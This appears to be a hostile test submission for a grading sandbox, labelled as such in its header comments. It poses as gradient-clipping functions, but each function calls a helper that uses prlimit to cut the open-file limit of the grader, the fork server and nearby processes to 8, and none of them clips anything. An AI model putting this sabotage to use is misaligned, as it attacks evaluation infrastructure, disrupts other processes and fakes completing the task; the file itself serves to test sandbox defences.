# HOSTILE: lowers the grader's and the fork server's open-file limit to 8, so that later exercises
# fail with "Too many open files".
# target: fundamentals/gradient_clipping
# expect: not allowed in a graded submission
# alone: kernel refused
import os
import resource


def _starve(pid):
    for target in range(max(2, pid - 40), pid + 1):
        try:
            resource.prlimit(target, resource.RLIMIT_NOFILE, (8, 8))
        except OSError:
            pass


def clip_grad_norm_(parameters, max_norm, norm_type=2.0):
    _starve(os.getppid())
    return -1.0


def clip_grad_value_(parameters, clip_value):
    _starve(os.getppid())
